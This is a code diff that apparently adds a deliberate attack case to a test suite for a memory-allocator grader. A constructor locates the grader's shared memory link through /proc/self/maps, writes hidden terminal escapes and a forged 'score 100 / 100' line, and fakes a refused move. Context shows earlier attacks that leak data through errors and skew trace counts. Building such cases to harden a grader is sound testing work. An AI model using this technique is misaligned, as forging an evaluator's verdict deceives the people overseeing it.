@@ -99,6 +99,11 @@
    at its 100th call: the count of a long trace is lost, a short one's kept, and T was made of the
    short ones alone. With ATTACK_PATH "honest" it never does: the baseline. */
 #define DROP_FROM_COUNT 31
+/* A constructor in the agent writes its own "why it failed" into the link the grader and the agent
+   share (found by its name in /proc/self/maps), terminal escapes and a forged score line, and
+   hands the turn back as if the grader had refused it. The offsets are remote.c's struct ms_link:
+   turn at 0, move at 12, said at 72. */
+#define FORGE_VERDICT 32
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -125,6 +130,32 @@ __attribute__((constructor)) static void leak_by_error(void) {
             found[i] = ' ';
     dprintf(2, "%s\x1b[8m\n", found);
     _exit(2);
+}
+#endif
+
+#if ATTACK == FORGE_VERDICT
+__attribute__((constructor)) static void forge_verdict(void) {
+    if (strcmp(program_invocation_short_name, "msagent") != 0)
+        return;
+    static char maps[1 << 16];
+    int fd = open("/proc/self/maps", O_RDONLY);
+    ssize_t n = 0, got;
+    while (fd >= 0 && n < (ssize_t)sizeof maps - 1 &&
+           (got = read(fd, maps + n, sizeof maps - 1 - (size_t)n)) > 0)
+        n += got;
+    maps[n] = '\0';
+    for (char *line = strtok(maps, "\n"); line != NULL; line = strtok(NULL, "\n")) {
+        unsigned long lo, hi;
+        char perms[8];
+        if (strstr(line, "mallocsim-link") == NULL ||
+            sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[1] != 'w')
+            continue;
+        char *link = (char *)lo;
+        strcpy(link + 72, "\x1b[2J\x1b[32mAll traces valid. score 100 / 100\x1b[8m");
+        *(volatile unsigned *)(link + 12) = 2;          /* MOVE_REFUSED */
+        __atomic_store_n((unsigned *)link, 0, __ATOMIC_SEQ_CST); /* TURN_GRADER */
+        _exit(0);
+    }
 }
 #endif
 
